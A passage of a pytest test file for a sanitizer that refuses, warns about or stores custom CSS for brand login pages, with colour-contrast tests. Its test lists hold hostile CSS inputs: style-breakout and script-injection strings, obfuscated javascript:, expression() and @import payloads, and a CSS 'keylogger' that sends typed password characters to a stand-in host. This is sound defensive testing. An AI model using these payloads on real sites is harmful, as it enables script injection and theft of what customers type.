"""core.brands.css: what brand login CSS is refused, warned about, and stored."""

from __future__ import annotations

import base64
import re

import pytest
import tinycss2
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import core.brands.css
from core.brands.css.check import MAX_CSS_BYTES, check_css, validate_css
from core.brands.css.colour import ContrastResult, contrast_ratio, parse_color
from core.brands.css.parsing import MAX_NESTING
from core.brands.css.report import CssFinding, CssRejected
from core.brands.css.selectors import LOGIN_PAGE_NAMES
from core.brands.css.starter import STARTER_TEMPLATE
from core.brands.css.text import decode_css_escapes
from core.brands.css.urls import DATA_IMAGE_TYPES, MAX_DATA_IMAGE_BYTES

MODAL = "#login-form .box-inner .modal"
HEADER = "#login-form .box-inner .modalheader"


def _says_no_place(message: str) -> bool:
    """A finding's line is data: its message does not start with "Line N" for anyone to strip."""
    return re.match(r"\s*line \d", message, re.IGNORECASE) is None


# (id, css, expected rule code, expected line or None)
HOSTILE: list[tuple[str, str, str, int | None]] = [
    # Leaving the <style> element.
    ("style-close-script", "</style><script>alert(1)</script>", "style-breakout", 1),
    ("style-close-upper", f"{MODAL} {{ color: red }}\n</STYLE >", "style-breakout", 2),
    ("html-comment-open", "<!-- .modal { color: red } -->", "style-breakout", 1),
    ("html-comment-close", f"{MODAL} {{ color: red }}\n-->", "style-breakout", 2),
    ("lt-in-comment", "/* </style><script>alert(1)</script> */", "style-breakout", 1),
    ("lt-in-string", f'{MODAL} {{ font-family: "</style>" }}', "style-breakout", 1),
    ("escape-3c-string", f'{MODAL} {{ content: "\\3c /style>" }}', "style-breakout", 1),
    ("escape-3C-ident", f"{MODAL} {{\n  font-family: \\3C script\n}}", "style-breakout", 2),
    ("escape-6-digit", f'{MODAL} {{ content: "\\00003c/style>" }}', "style-breakout", 1),
    ("escape-literal-lt", f"{MODAL} {{ font-family: a\\<b }}", "style-breakout", 1),
    ("escape-cdc", f'{MODAL} {{ content: "\\2d->" }}', "style-breakout", 1),
    # Script.
    ("url-javascript", f"{MODAL} {{ background: url(javascript:alert(1)) }}", "script-url", 1),
    ("url-JAVASCRIPT-quoted", f'{MODAL} {{ background: url("JAVASCRIPT:alert(1)") }}', "script-url", 1),
    ("url-javascript-escaped", f'{MODAL} {{ background: url("java\\73 cript:x") }}', "script-url", 1),
    ("url-javascript-tab", f'{MODAL} {{ background: url("java\\9 script:x") }}', "script-url", 1),
    ("javascript-comment-hidden", f"{MODAL} {{ x: java/**/script:alert(1) }}", "script-url", 1),
    ("vbscript", f'{MODAL} {{ background: url("vbscript:msgbox")\n}}', "script-url", 1),
    ("expression", f"{MODAL} {{\n  width: expression(alert(1))\n}}", "expression", 2),
    ("expression-escaped", f"{MODAL} {{ width: \\65xpression(alert(1)) }}", "expression", 1),
    ("expression-comment-hidden", f"{MODAL} {{ width: expr/**/ession(alert(1)) }}", "expression", 1),
    ("behavior", f"{MODAL} {{\n  color: red;\n  behavior: url(x.htc)\n}}", "behavior", 3),
    ("behavior-escaped", f"{MODAL} {{ beh\\61vior: url(https://x.example/x.htc) }}", "behavior", 1),
    ("moz-binding", f'{MODAL} {{ -moz-binding: url("https://x.example/x.xml#b") }}', "moz-binding", 1),
    # Loading a stylesheet.
    ("import-url", "@import url(https://evil.example/x.css);", "import", 1),
    ("import-upper", '\n\n@IMPORT "https://evil.example/x.css";', "import", 3),
    ("import-escaped", '@\\69mport "https://evil.example/x.css";', "import", 1),
    ("import-nested", f'{MODAL} {{ @import "https://evil.example/x.css"; }}', "import", 1),
    ("charset-late", f'{MODAL} {{ color: red }}\n@charset "utf-8";', "charset", 2),
    ("charset-after-comment", '/* x */@charset "utf-8";', "charset", 1),
    # Loading from elsewhere.
    ("url-http", f"{MODAL} {{ background: url(http://evil.example/x.png) }}", "outside-resource", 1),
    ("url-protocol-relative", f"{MODAL} {{ background: url(//evil.example/x.png) }}", "outside-resource", 1),
    ("url-relative", f"{MODAL} {{ background: url(x.png) }}", "outside-resource", 1),
    ("url-root-relative", f'{MODAL} {{ background: url("/img/x.png") }}', "outside-resource", 1),
    ("url-https-no-host", f'{MODAL} {{ background: url("https:x.png") }}', "outside-resource", 1),
    ("url-ftp", f'{MODAL} {{ background: url("ftp://evil.example/x.png") }}', "outside-resource", 1),
    ("url-empty", f"{MODAL} {{ background: url() }}", "outside-resource", 1),
    ("data-text-html", f'{MODAL} {{ background: url("data:text/html,hi") }}', "outside-resource", 1),
    (
        "data-svg",
        f'{MODAL} {{ background: url("data:image/svg+xml;base64,PHN2Zz4=") }}',
        "outside-resource",
        1,
    ),
    (
        "image-set-http",
        f'{MODAL} {{ background: image-set("http://evil.example/x.png" 1x) }}',
        "outside-resource",
        1,
    ),
    (
        "webkit-image-set-relative",
        f'{MODAL} {{ background: -webkit-image-set("x.png" 1x) }}',
        "outside-resource",
        1,
    ),
    ("src-function", f'{MODAL} {{ background: src("http://evil.example/x.png") }}', "outside-resource", 1),
    ("src-var", f"{MODAL} {{ background: src(var(--u)) }}", "outside-resource", 1),
    (
        "font-face-http",
        '@font-face {\n  font-family: X;\n  src: url("http://evil.example/x.woff2")\n}',
        "outside-resource",
        3,
    ),
    (
        "url-in-media",
        f"@media screen {{\n  {MODAL} {{ background: url(http://e.example/x) }}\n}}",
        "outside-resource",
        2,
    ),
    (
        "url-in-supports",
        f"@supports (display: grid) {{\n\n  {MODAL} {{ background: url(x) }} }}",
        "outside-resource",
        3,
    ),
    (
        "url-in-layer",
        f"@layer brand {{ {MODAL} {{ background: url(http://e.example/x) }} }}",
        "outside-resource",
        1,
    ),
    (
        "url-in-container",
        f"@container (min-width: 1px) {{ {MODAL} {{ cursor: url(x.cur) }} }}",
        "outside-resource",
        1,
    ),
    ("url-in-custom-property", f"{MODAL} {{ --bg: url(http://e.example/x) }}", "outside-resource", 1),
    # Unreadable.
    ("unbalanced-open", f"{MODAL} {{ color: red;\n\n{HEADER} {{ color: blue }}", "parse-error", 1),
    ("unbalanced-close", f"{MODAL} {{ color: red }}\n}}", "parse-error", 2),
    ("unclosed-comment", f"{MODAL} {{ color: red }}\n/* never closed", "parse-error", 2),
    ("unclosed-string", f'{MODAL} {{ font-family: "x }}', "parse-error", 1),
    ("bad-declaration", f"{MODAL} {{\n  color red;\n}}", "parse-error", 2),
    ("declaration-outside-rule", f"color: red;\n{MODAL} {{ color: red }}", "parse-error", 1),
    ("unknown-at-rule", "@-moz-document url-prefix() { .modal { color: red } }", "unknown-at-rule", 1),
    ("nul-byte", f"{MODAL} {{ color: red }}\x00", "control-char", 1),
    ("control-char", f"{MODAL} {{\n  color: red\x07 }}", "control-char", 2),
    ("escaped-surrogate", f"{MODAL} {{ font-family: \\d800 }}", "control-char", 1),
    ("megabyte", f"{MODAL} {{ color: red }}\n" * (1024 * 1024 // 40), "too-large", 1),
]


# -- no URL that leaves the page (PRODUCT.md, Trust and Bad input) -------------
#
# Every spelling a browser reads as a URL (CSS Syntax 3 §4.3.6: the url-token,
# and the "url(" function-token with a string; escapes decoded, case folded),
# every function and at-rule that takes one, and every place a rule can sit.
# The host stands for any outside host; https is no exception.
HOST = "https://cdn.example.com/a.png"
BIG_PNG = base64.b64encode(b"\x89PNG" + b"\0" * (MAX_DATA_IMAGE_BYTES - 3)).decode()  # one byte over
OUTSIDE: list[tuple[str, str, str, int | None]] = [
    # url(): quoting, case, escapes, whitespace, comments.
    ("url-https-unquoted", f"{MODAL} {{ background: url({HOST}) }}", "outside-resource", 1),
    ("url-https-double-quoted", f'{MODAL} {{ background: url("{HOST}") }}', "outside-resource", 1),
    ("url-https-single-quoted", f"{MODAL} {{ background: url('{HOST}') }}", "outside-resource", 1),
    ("url-upper-case", f"{MODAL} {{ background: URL({HOST}) }}", "outside-resource", 1),
    (
        "url-scheme-mixed-case",
        f"{MODAL} {{ background: url(HtTpS://cdn.example.com/a.png) }}",
        "outside-resource",
        1,
    ),
    ("url-escaped-r", rf"{MODAL} {{ background: u\72l({HOST}) }}", "outside-resource", 1),
    ("url-escaped-u-space", rf"{MODAL} {{ background: \75 rl({HOST}) }}", "outside-resource", 1),
    ("url-escaped-function-string", rf'{MODAL} {{ background: \75 rl("{HOST}") }}', "outside-resource", 1),
    (
        "url-hex-escape-in-scheme",
        rf"{MODAL} {{ background: url(\68ttps://cdn.example.com/a.png) }}",
        "outside-resource",
        1,
    ),
    (
        "url-hex-escaped-slashes",
        rf'{MODAL} {{ background: url("https:\2f\2f cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    (
        "url-escaped-colon",
        rf"{MODAL} {{ background: url(https\3a //cdn.example.com/a.png) }}",
        "outside-resource",
        1,
    ),
    (
        "url-tab-in-scheme",
        rf'{MODAL} {{ background: url("ht\9 tps://cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    ("url-newlines-inside", f"{MODAL} {{\n  background: url(\n    {HOST}\n  )\n}}", "outside-resource", 2),
    ("url-string-on-next-line", f'{MODAL} {{\n  background: url(\n"{HOST}")\n}}', "outside-resource", 3),
    ("url-comment-before-address", f"{MODAL} {{ background: url(/**/{HOST}) }}", "outside-resource", 1),
    ("url-comment-inside-name", f"{MODAL} {{ background: ur/**/l({HOST}) }}", "outside-resource", 1),
    (
        "url-comment-inside-string",
        f'{MODAL} {{ background: url("https:/**///cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    # Other addresses.
    ("url-http", f"{MODAL} {{ background: url(http://cdn.example.com/a.png) }}", "outside-resource", 1),
    (
        "url-protocol-relative-unquoted",
        f"{MODAL} {{ background: url(//cdn.example.com/a.png) }}",
        "outside-resource",
        1,
    ),
    (
        "url-protocol-relative-quoted",
        f'{MODAL} {{ background: url("//cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    (
        "url-backslashes",
        rf'{MODAL} {{ background: url("\\\\cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    (
        "url-https-without-slashes",
        f'{MODAL} {{ background: url("https:cdn.example.com/a.png") }}',
        "outside-resource",
        1,
    ),
    ("url-ftp", f"{MODAL} {{ background: url(ftp://cdn.example.com/a.png) }}", "outside-resource", 1),
    ("url-other-scheme", f"{MODAL} {{ background: url(cid:logo) }}", "outside-resource", 1),
    ("url-relative", f"{MODAL} {{ background: url(logo.png) }}", "outside-resource", 1),
    ("url-fragment", f"{MODAL} {{ filter: url(#blur) }}", "outside-resource", 1),
    # Functions that take a URL or a string that is one.
    ("src-function", f'{MODAL} {{ background: src("{HOST}") }}', "outside-resource", 1),
    ("src-function-escaped", rf'{MODAL} {{ background: \73 rc("{HOST}") }}', "outside-resource", 1),
    ("image-function", f'{MODAL} {{ background: image("{HOST}") }}', "outside-resource", 1),
    (
        "image-set-bare-relative-string",
        f'{MODAL} {{ background: image-set("x.png" 1x) }}',
        "outside-resource",
        1,
    ),
    (
        "image-set-https-string",
        f'{MODAL} {{ background: image-set("{HOST}" 1x, "{HOST}" 2x) }}',
        "outside-resource",
        1,
    ),
    ("image-set-url", f"{MODAL} {{ background: image-set(url({HOST}) 1x) }}", "outside-resource", 1),
    (
        "webkit-image-set-string",
        f'{MODAL} {{ background: -webkit-image-set("{HOST}" 1x) }}',
        "outside-resource",
        1,
    ),
    ("cross-fade-url", f"{MODAL} {{ background: cross-fade(url({HOST}) 50%, #fff) }}", "outside-resource", 1),
    (
        "cross-fade-string",
        f'{MODAL} {{ background: -webkit-cross-fade("{HOST}", "{HOST}", 50%) }}',
        "outside-resource",
        1,
    ),
    # Properties that fetch.
    ("cursor", f"{MODAL} {{ cursor: url({HOST}), auto }}", "outside-resource", 1),
    ("list-style", f"{MODAL} {{ list-style: square url({HOST}) }}", "outside-resource", 1),
    ("list-style-image", f'{MODAL} {{ list-style-image: url("{HOST}") }}', "outside-resource", 1),
    (
        "mask",
        f"{MODAL} {{ mask: url({HOST}) no-repeat; -webkit-mask-image: url({HOST}) }}",
        "outside-resource",
        1,
    ),
    ("filter", f"{MODAL} {{ filter: url(https://cdn.example.com/f.svg#blur) }}", "outside-resource", 1),
    ("border-image", f"{MODAL} {{ border-image: url({HOST}) 30 round }}", "outside-resource", 1),
    ("content", f"{HEADER} {{ content: url({HOST}) }}", "outside-resource", 1),
    ("custom-property", f"{MODAL} {{ --logo: url({HOST}); background: var(--logo) }}", "outside-resource", 1),
    ("behavior-https", f"{MODAL} {{ behavior: url(https://cdn.example.com/x.htc) }}", "behavior", 1),
    (
        "moz-binding-https",
        f"{MODAL} {{ -moz-binding: url(https://cdn.example.com/x.xml#b) }}",
        "moz-binding",
        1,
    ),
    ("expression-url", f"{MODAL} {{ background: expression('url({HOST})') }}", "expression", 1),
    # At-rules.
    ("import-bare-string", '@import "x.css";', "import", 1),
    ("import-https-in-media", f"@media screen {{\n  @import url({HOST});\n}}", "import", 2),
    (
        "import-in-supports",
        '@supports (display: grid) { @import "https://cdn.example.com/x.css"; }',
        "import",
        1,
    ),
    (
        "font-face-src",
        f"@font-face {{\n  font-family: Brand;\n  src: url({HOST}) format('woff2');\n}}",
        "outside-resource",
        3,
    ),
    (
        "font-face-src-string-function",
        f'@font-face {{ font-family: B; src: url("{HOST}"), local(Arial) }}',
        "outside-resource",
        1,
    ),
    ("namespace-url", "@namespace url(https://cdn.example.com/ns);", "namespace", 1),
    ("namespace-string", '@namespace svg "http://www.w3.org/2000/svg";', "namespace", 1),
    ("document", f"@document url({HOST}) {{ {MODAL} {{ color: red }} }}", "unknown-at-rule", 1),
    # Nested at-rules and CSS nesting.
    (
        "media-in-supports",
        f"@supports (display: grid) {{\n  @media screen {{\n    {MODAL} {{ background: url({HOST}) }}\n  }}\n}}",
        "outside-resource",
        3,
    ),
    (
        "nesting-ampersand",
        f"{MODAL} {{\n  & .modalheader {{\n    background: url({HOST});\n  }}\n}}",
        "outside-resource",
        3,
    ),
    ("nesting-bare", f"{MODAL} {{ .modalheader {{ background: url({HOST}) }} }}", "outside-resource", 1),
    ("nesting-media", f"{MODAL} {{ @media screen {{ background: url({HOST}) }} }}", "outside-resource", 1),
    (
        "layer-in-container",
        f"@container (min-width: 1px) {{ @layer b {{ {MODAL} {{ background: url({HOST}) }} }} }}",
        "outside-resource",
        1,
    ),
    # data: URLs other than a raster image under the limit.
    (
        "data-svg",
        f'{MODAL} {{ background: url("data:image/svg+xml;base64,PHN2Zz4=") }}',
        "outside-resource",
        1,
    ),
    (
        "data-svg-upper-case",
        f"{MODAL} {{ background: url(DATA:IMAGE/SVG+XML,%3Csvg%3E) }}",
        "outside-resource",
        1,
    ),
    ("data-html", f'{MODAL} {{ background: url("data:text/html,hi") }}', "outside-resource", 1),
    ("data-no-type", f"{MODAL} {{ background: url(data:,x) }}", "outside-resource", 1),
    ("data-avif", f"{MODAL} {{ background: url(data:image/avif;base64,AAAA) }}", "outside-resource", 1),
    ("data-no-comma", f"{MODAL} {{ background: url(data:image/png;base64) }}", "outside-resource", 1),
    (
        "data-bad-base64",
        f"{MODAL} {{ background: url(data:image/png;base64,iVBO*RK) }}",
        "outside-resource",
        1,
    ),
    (
        "data-png-over-limit",
        f"{MODAL} {{ background: url(data:image/png;base64,{BIG_PNG}) }}",
        "outside-resource",
        1,
    ),
    (
        "data-gif-over-limit-percent-encoded",
        f"{MODAL} {{ background: url(data:image/gif,{'%00' * 10 + 'x' * MAX_DATA_IMAGE_BYTES}) }}",
        "outside-resource",
        1,
    ),
    # Attribute selectors that read a form (the CSS "keylogger").
    ("keylogger", f"input[value^=a] {{ background: url({HOST}?a) }}", "attribute-selector", 1),
    (
        "keylogger-data-url",
        '#password[value$="x"] { background: url(data:image/png;base64,iVBORw0KGgo=) }',
        "attribute-selector",
        1,
    ),
    ("value-any-element", '[value="a"] { color: red }', "attribute-selector", 1),
    ("value-upper-case", 'INPUT[VALUE^="a"] { color: red }', "attribute-selector", 1),
    ("value-escaped", r"input[va\6c ue^=a] { color: red }", "attribute-selector", 1),
    ("value-namespaced", "[*|value^=a] { color: red }", "attribute-selector", 1),
    ("input-type", "\ninput[type=password] { color: red }", "attribute-selector", 2),
    ("textarea-placeholder", "textarea[placeholder] { color: red }", "attribute-selector", 1),
    ("option-selected", "select option[selected] { color: red }", "attribute-selector", 1),
    ("has-value", f"{MODAL}:has(input[value^=a]) {{ color: red }}", "attribute-selector", 1),
    ("is-input", ":is(input)[name=otp] { color: red }", "attribute-selector", 1),
    ("nested-value", "#otp-code { &[value^=a] { color: red } }", "attribute-selector", 1),
    ("nested-under-input", "input {\n  &[name=otp] { color: red }\n}", "attribute-selector", 2),
    ("scope-input", "@scope (input) { [name=otp] { color: red } }", "attribute-selector", 1),
]


@pytest.mark.parametrize(
    ("css", "rule", "line"),
    [pytest.param(css, rule, line, id=case_id) for case_id, css, rule, line in HOSTILE + OUTSIDE],
)
def test_hostile_css_is_refused(css: str, rule: str, line: int | None) -> None:
    report = check_css(css)
    assert not report.ok
    assert report.css == ""  # nothing of refused CSS travels on
    matching = [f for f in report.errors if f.rule == rule]
    assert matching, f"expected a {rule!r} error, got {report.findings}"
    if line is not None:
        assert matching[0].line == line
    assert _says_no_place(matching[0].message)
    with pytest.raises(CssRejected) as raised:
        validate_css(css)
    assert raised.value.report.errors == report.errors
    # The person reads the line with the reason: "- Line 2: </style would end ...".
    assert f"\n- Line {matching[0].line}: {matching[0].message}" in str(raised.value)


@pytest.mark.parametrize(
    ("escaped", "decoded"),
    [
        ("\\3c /style", "</style"),
        ("\\3C", "<"),
        ("\\00003c", "<"),
        ("\\<", "<"),
        ("\\3c  x", "< x"),  # one whitespace after the hex digits belongs to the escape
        ("\\3c\tx", "<x"),
        ("\\1234567", "\ufffd7"),  # at most six hex digits; U+123456 is past U+10FFFF
        ("\\12345 6", "\U000123456"),
        ("java\\73 cript", "javascript"),
        ("\\0", "\ufffd"),  # NUL, surrogates and past U+10FFFF become U+FFFD
        ("\\d800", "\ufffd"),
        ("\\110000", "\ufffd"),
        ("a\\", "a\ufffd"),  # escape at end of input
        ('"java\\\nscript:"', '"javascript:"'),  # line continuation inside a string
        ("\\\\", "\\"),
        ("plain", "plain"),
    ],
)
def test_decode_css_escapes(escaped: str, decoded: str) -> None:
    assert decode_css_escapes(escaped) == decoded


def test_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 30
    assert len(OUTSIDE) >= 40


@pytest.mark.parametrize(
    "css",
    [pytest.param(css, id=case_id) for case_id, css, rule, _ in OUTSIDE if rule == "outside-resource"],
)
def test_each_outside_url_says_why_in_one_sentence(css: str) -> None:
    found = [f for f in check_css(css).errors if f.rule == "outside-resource"]
    assert found
    for finding in found:
        assert _says_no_place(finding.message)
        assert finding.message.endswith(
            (
                "; only data: images under 32 KiB are allowed.",
                "; only data: images in PNG, JPEG, GIF or WebP under 32 KiB are allowed.",
            )
        )
        assert finding.message.count(". ") == 0  # one sentence


def test_an_outside_url_names_its_line_and_the_rule() -> None:
    css = f"{MODAL} {{\n  color: #000;\n  background-color: #fff;\n  background-image: url({HOST});\n}}"
    (finding,) = check_css(css).errors
    assert (finding.line, finding.column, finding.rule) == (4, 21, "outside-resource")
    assert finding.message == (
        "url(https://cdn.example.com/a.png) loads from another host; "
        "only data: images under 32 KiB are allowed."
    )


def test_the_data_image_limit_is_32_kib_decoded_and_stated() -> None:
    assert MAX_DATA_IMAGE_BYTES == 32 * 1024
    assert {"image/png", "image/jpeg", "image/gif", "image/webp"} == DATA_IMAGE_TYPES
    assert "32 KiB" in (core.brands.css.__doc__ or "")
    at_limit = base64.b64encode(b"\x89PNG" + b"\0" * (MAX_DATA_IMAGE_BYTES - 4)).decode()
    assert check_css(f"{MODAL} {{ background: url(data:image/png;base64,{at_limit}) }}").ok
    (finding,) = check_css(f"{MODAL} {{ background: url(data:image/png;base64,{BIG_PNG}) }}").errors
    assert "holds an image of 32,769 bytes once decoded" in finding.message


def test_a_keylogger_is_refused_for_both_reasons() -> None:
    report = check_css("input[value^=a] { background: url(https://cdn.example.com/k?a) }")
    assert {f.rule for f in report.errors} == {"attribute-selector", "outside-resource"}
    (attribute,) = [f for f in report.errors if f.rule == "attribute-selector"]
    assert attribute.line == 1
    assert attribute.message == (
        "the attribute selector [value^=a] is not allowed: a selector on a form field's "
        "value can read what a customer types, one character at a time."
    )


def test_comment_inside_at_keyword_is_not_an_import() -> None:
    # CSS Syntax §4.3: a comment ends a token, so "@im/**/port" is the unknown
    # at-rule "@im" followed by the word "port" -- not an @import.  It is still
    # refused, as an at-rule the checker does not know.
    report = check_css("@im/**/port 'https://evil.example/x.css';")
    rules = {f.rule for f in report.errors}
    assert "unknown-at-rule" in rules
    assert "import" not in rules
    assert "@im " in report.errors[0].message


def test_too_large_is_refused_before_parsing() -> None:
    css = "/*" + "x" * MAX_CSS_BYTES + "*/"
    report = check_css(css)
    assert [f.rule for f in report.findings] == ["too-large"]
    assert (report.findings[0].line, report.findings[0].column) == (1, 1)
    assert report.findings[0].message == (
        f"the CSS is {MAX_CSS_BYTES + 4:,} bytes; the limit is {MAX_CSS_BYTES:,} bytes (64 KiB)."
    )


@pytest.mark.parametrize("opener", ["(", "[", "{", "f(", "@media x {"])
def test_deep_nesting_is_refused_without_crashing(opener: str) -> None:
    report = check_css(opener * (6000 // len(opener)))
    assert not report.ok
    assert report.errors[0].rule == "too-deep"


def test_nesting_up_to_the_limit_is_fine() -> None:
    depth = MAX_NESTING - 1  # the rule's own {} block is one level
    css = f"{MODAL} {{ width: " + "calc(" * depth + "1px" + ")" * depth + " }"
    assert check_css(css).ok
    css = f"{MODAL} {{ width: " + "calc(" * (depth + 1) + "1px" + ")" * (depth + 1) + " }"
    assert [f.rule for f in check_css(css).errors] == ["too-deep"]


def test_size_limit_counts_utf8_bytes() -> None:
    just_fits = f"{MODAL} {{ font-family: x }}"
    padding = MAX_CSS_BYTES - len(just_fits.encode()) - 4
    assert check_css(just_fits + "/*" + "x" * padding + "*/").ok
    # The same number of characters, but "é" is two bytes in UTF-8.
    over = just_fits + "/*" + "é" * padding + "*/"
    assert [f.rule for f in check_css(over).errors] == ["too-large"]


def test_findings_carry_line_and_column() -> None:
    css = f"{MODAL} {{\n  color: #000;\n  background: url(http://e.example/x.png);\n}}"
    (finding,) = check_css(css).errors
    assert (finding.line, finding.column) == (3, 15)
    assert finding.rule == "outside-resource"
    assert finding.message == (
        "url(http://e.example/x.png) loads from another host; only data: images under 32 KiB are allowed."
    )


def test_import_message() -> None:
    (finding,) = check_css('\n\n@import "x.css";').errors
    assert finding.line == 3
    assert finding.message == "@import is not allowed: it would load a stylesheet from elsewhere."


def test_rejected_str_lists_every_error_with_its_line() -> None:
    css = '@import "x.css";\n' + f"{MODAL} {{ background: url(x.png) }}"
    with pytest.raises(CssRejected) as raised:
        validate_css(css)
    text = str(raised.value)
    assert "Line 1: @import" in text
    assert "Line 2: url(x.png)" in text
    assert isinstance(raised.value, ValueError)


GOOD = [
    pytest.param(STARTER_TEMPLATE, id="starter"),
    pytest.param("", id="empty"),
    pytest.param(f"{MODAL} {{ color: #1f2933; background-color: white }}", id="plain-colours"),
    pytest.param(f"{HEADER} {{ color: rgb(255 255 255); background: hsl(215 85% 30%) }}", id="colour-forms"),
    pytest.param(
        f"{MODAL} {{ background: #fff url(data:image/png;base64,iVBORw0KGgo=) no-repeat }}", id="data-png"
    ),
    pytest.param(
        f'{HEADER} {{ background-image: url("data:image/png;base64,iVBORw0KGgo=") }}', id="data-png-quoted"
    ),
    pytest.param(f'{HEADER} {{ background-image: url("data:image/webp;base64,UklGRg==") }}', id="data-webp"),
    pytest.param(f"{HEADER} {{ background-image: url('DATA:IMAGE/JPEG;BASE64,/9j/4A==') }}", id="data-jpeg"),
    pytest.param(f"{HEADER} {{ background-image: url(data:image/gif,GIF89a) }}", id="data-gif-percent"),
    pytest.param(
        f'{MODAL} {{ background-image: image-set("data:image/png;base64,iVBORw0KGgo=" 1x, '
        "url(data:image/png;base64,iVBORw0KGgo=) 2x) }",
        id="image-set-data",
    ),
    pytest.param(
        f"@media (max-width: 600px) {{\n  {MODAL} {{ width: 100%; }}\n}}\n"
        f"@media (prefers-color-scheme: dark) {{ {MODAL} {{ background: #111; color: #eee }} }}",
        id="media",
    ),
    pytest.param(f"@supports (display: grid) {{ {MODAL} {{ display: grid }} }}", id="supports"),
    pytest.param(
        f"@layer brand {{ {MODAL} {{ border: 0 }} }}\n"
        f"@container (min-width: 1px) {{ {HEADER} {{ margin: 0 }} }}",
        id="layer-container",
    ),
    pytest.param(
        '@font-face { font-family: "Brand"; src: local("Arial") }\n'
        + f'{HEADER} {{ font-family: "Brand", sans-serif }}',
        id="font-face-local",
    ),
    pytest.param(
        "@keyframes pop { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }\n"
        f"{MODAL} {{ animation: pop 0.2s ease-out }}",
        id="keyframes",
    ),
    pytest.param(f'@charset "utf-8";\n{MODAL} {{ color: #222 }}', id="charset-first"),
    pytest.param(
        f"{MODAL} {{ scroll-behavior: smooth; overscroll-behavior: contain }}", id="scroll-behavior"
    ),
    pytest.param(
        f"{MODAL} .button.verify:hover, {MODAL} .code-input:focus "
        "{ outline: 2px solid #0b5cad !important }",
        id="pseudo-classes",
    ),
    pytest.param(f"{MODAL} {{ & .status {{ font-style: italic }} }}", id="nesting"),
    pytest.param(f"/* a comment */ {MODAL} {{ /* inner */ color: #111 }}", id="comments"),
    pytest.param(f"{MODAL} > .modalbody + .buttons ~ *, html, body, :root {{ margin: 0 }}", id="combinators"),
    pytest.param(f"{MODAL} [data-x='1'] {{ color: #000 }}", id="attribute-selector"),
    pytest.param(f"{MODAL}[role=dialog] .instruction {{ color: #000 }}", id="attribute-not-on-a-field"),
    pytest.param("#login-form .box-inner .modalheader {}\n.modal { color: #000 }", id="the-two-selectors"),
    pytest.param(
        f"/* logo from https://brand.example/logo.png */ {MODAL} {{ color: #000 }}", id="url-in-comment"
    ),
    pytest.param(f"{MODAL}\r\n{{\r\n\tcolor:\f#000 }}", id="crlf-ff"),
]


@pytest.mark.parametrize("css", GOOD)
def test_good_css_passes_and_round_trips(css: str) -> None:
    report = validate_css(css)
    assert report.ok
    assert report.errors == ()
    assert "<" not in report.css
    again = check_css(report.css)
    assert again.ok
    assert again.css == report.css


def test_starter_template_has_no_findings_and_keeps_its_rules() -> None:
    report = check_css(STARTER_TEMPLATE)
    assert report.findings == ()
    assert MODAL in report.css and HEADER in report.css
    assert {c.selector for c in report.contrast} == {".modal", ".modalheader"}
    assert all(c.ratio >= 4.5 for c in report.contrast)
    # It explains the two selectors for the account manager.
    comment = STARTER_TEMPLATE.split("*/")[0]
    assert ".modalheader" in comment and ".modal " in comment


def test_stored_css_drops_comments() -> None:
    report = check_css(f"/* note */\n{MODAL} {{ color: /* x */ #000 }}")
    assert "/*" not in report.css
    assert report.css == f"{MODAL} {{ color:  #000 }}\n"


def test_namespace_is_refused() -> None:
    # It names an address, and the login page is HTML with no other namespace.
    (finding,) = check_css('@namespace svg "http://www.w3.org/2000/svg";').errors
    assert (finding.rule, finding.line) == ("namespace", 1)
    assert finding.message.startswith("@namespace is not allowed")


# -- colours and contrast ------------------------------------------------------


def test_black_on_white_is_21() -> None:
    assert contrast_ratio("#000", "#fff") == 21.0
    assert contrast_ratio("white", "black") == 21.0  # order does not matter


def test_grey_777_on_white() -> None:
    assert contrast_ratio("#777", "#ffffff") == pytest.approx(4.48, abs=0.01)
    assert contrast_ratio("#777", "#ffffff") < 4.5


def test_same_colour_is_1() -> None:
    assert contrast_ratio("#fff", "white") == 1.0
    assert contrast_ratio((12, 34, 56), (12, 34, 56)) == 1.0


def test_tuples_and_strings_agree() -> None:
    assert contrast_ratio((119, 119, 119), (255, 255, 255)) == contrast_ratio("#777", "#fff")


@pytest.mark.parametrize(
    ("named", "hex_value"),
    [("red", "#ff0000"), ("navy", "#000080"), ("rebeccapurple", "#663399"), ("WhiteSmoke", "#f5f5f5")],
)
def test_named_colours_equal_hex(named: str, hex_value: str) -> None:
    assert parse_color(named) == parse_color(hex_value)
    assert contrast_ratio(named, "#fff") == contrast_ratio(hex_value, "#fff")


@pytest.mark.parametrize(
    "form",
    [
        "#336699",
        "#369",
        "#369f",
        "#336699ff",
        "rgb(51, 102, 153)",
        "rgb(51 102 153)",
        "rgba(51, 102, 153, 1)",
        "rgb(20% 40% 60%)",
        "rgb(20%, 40%, 60%)",
        "hsl(210, 50%, 40%)",
        "hsl(210deg 50% 40%)",
        "hsla(210, 50%, 40%, 1)",
        "RGB(51, 102, 153)",
    ],
)
def test_colour_forms_equal_hex(form: str) -> None:
    assert parse_color(form) == pytest.approx((51, 102, 153), abs=0.01)
    assert contrast_ratio(form, "#fff") == pytest.approx(contrast_ratio("#336699", "#fff"), abs=1e-3)


def test_parse_color_values() -> None:
    assert parse_color("#fff") == (255.0, 255.0, 255.0)
    assert parse_color("black") == (0.0, 0.0, 0.0)
    assert parse_color("transparent") is None
    assert parse_color("#0000") is None
    assert parse_color("not-a-colour") is None
    assert parse_color("#12") is None
    assert parse_color("currentcolor") is None
    assert parse_color("url(x)") is None


def test_contrast_ratio_refuses_unknown_colours() -> None:
    with pytest.raises(ValueError):
        contrast_ratio("nope", "#fff")


def test_translucent_background_is_composited_over_white() -> None:
    assert contrast_ratio("#000", "rgba(0, 0, 0, 0)") == 21.0
    assert contrast_ratio("#000", "rgba(0, 0, 0, 0.5)") < 21.0


def _warning_findings(css: str, rule: str) -> list[CssFinding]:
    report = check_css(css)
    assert report.ok
    return [f for f in report.warnings if f.rule == rule]


def _warnings(css: str, rule: str) -> list[str]:
    return [f.message for f in _warning_findings(css, rule)]


def test_low_contrast_warning_in_modal() -> None:
    css = f"\n\n\n{MODAL} {{ color: #777; background: #fff }}"
    (finding,) = _warning_findings(css, "low-contrast")
    assert finding.line == 4
    assert finding.message == (
